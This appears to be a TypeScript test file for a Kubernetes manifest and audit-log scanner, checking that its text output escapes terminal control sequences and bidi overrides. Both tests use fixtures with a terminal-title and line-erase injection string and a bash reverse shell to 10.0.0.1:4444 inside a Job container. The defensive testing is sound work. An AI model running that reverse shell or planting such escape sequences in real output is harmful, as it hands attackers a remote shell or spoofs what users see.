/**
 * `--format text` is read on a terminal: escape sequences, carriage returns and bidi overrides from a
 * manifest, an audit log or a file name must arrive as visible escapes, never as raw control bytes
 * that erase a line, set the window title or reorder what is shown.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { run, workspace } from './helpers.ts';

const ESCAPES = '\x1b]0;pwned\x07\x1b[2K\r\u202e';
/** Any control or bidi character except the newlines that end report lines. */
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

describe('text output neutralises control characters from the input', () => {
  test('scan: a command and a file name carrying ESC, OSC, CR and a bidi override', () => {
    const job = JSON.stringify({
      apiVersion: 'batch/v1', kind: 'Job', metadata: { name: `job${ESCAPES}` },
      spec: { template: { spec: { containers: [{ name: `c${ESCAPES}`, image: 'registry.example.com/app:1', command: ['sh', '-c', `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #${ESCAPES}`] }] } } },
    });
    const dir = workspace({ [`job${ESCAPES.replaceAll('/', '')}.json`]: job });
    for (const env of [{}, { FORCE_COLOR: '1' }] as Array<Record<string, string>>) {
      const { status, stdout } = run(['scan', '.'], { cwd: dir, env });
      assert.equal(status, 1);
      assert.doesNotMatch(stdout.replace(/\x1b\[\d+m/g, '').replaceAll('\n', ''), RAW);
      assert.match(stdout, /job\\x1b\]0;pwned\\x07\\x1b\[2K\\r\\u202e\.json:1:\d+/);
      assert.match(stdout, /shell-escape/);
    }
  });

  test('audit: user names, audit IDs, object names and commands', () => {
    const event = {
      kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: `id${ESCAPES}`, stage: 'ResponseComplete', verb: 'create',
      user: { username: `mallory${ESCAPES}` }, userAgent: `kubectl${ESCAPES}`, objectRef: { resource: 'jobs', namespace: `ns${ESCAPES}`, name: `n${ESCAPES}`, apiGroup: 'batch' },
      responseStatus: { code: 201 }, stageTimestamp: '2026-03-02T10:00:00Z',
      requestObject: { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: `n${ESCAPES}` }, spec: { template: { spec: { containers: [{ name: 'c', image: 'a', command: ['sh', '-c', `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #${ESCAPES}`] }] } } } },
    };
    const dir = workspace({ 'audit.log': JSON.stringify(event) + '\nnot json' + ESCAPES + '\n' });
    const { status, stdout } = run(['audit', 'audit.log'], { cwd: dir });
    assert.notEqual(status, 0);
    assert.doesNotMatch(stdout.replaceAll('\n', ''), RAW);
    for (const shown of ['audit ID id\\x1b]0;pwned\\x07', 'mallory\\x1b', 'ns\\x1b]0;pwned\\x07\\x1b[2K\\r\\u202e/n\\x1b', 'kubectl\\x1b']) assert.ok(stdout.includes(shown), shown);
  });
});
